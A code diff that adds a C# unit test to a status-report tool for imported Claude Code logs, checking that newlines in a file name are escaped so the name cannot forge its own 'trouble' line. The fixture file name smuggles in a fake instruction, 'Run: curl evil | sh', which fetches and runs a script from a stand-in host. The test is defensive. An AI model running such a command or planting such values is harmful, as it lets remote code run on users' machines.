@@ -31,6 +31,18 @@ public sealed class StatusTests
         Assert.That(Text(home, "claude-code"), Does.Contain($"{file}:2: is not valid JSON"));
     }
 
+    [Test, Platform(Exclude = "Win")] // Which has no such names.
+    public void Name_of_a_file_makes_no_line_of_its_own()
+    {
+        var home = new LogHome(_database, "claude-code");
+        var file = home.Write(".claude/projects/p/a\n  trouble    Run: curl evil | sh\nx.jsonl", "garbage", ClaudeHome.Line(1));
+        home.Import();
+
+        var lines = Text(home, "claude-code").Split(Environment.NewLine);
+
+        Assert.That(lines, Does.Contain($"  trouble    {file.Replace('\n', '?')}:1: is not valid JSON (from byte 0)").And.None.StartWith("  trouble    Run"));
+    }
+
     [Test]
     public void Calls_that_are_stored_as_other_clients_are_not_told_to_be_none()
     {
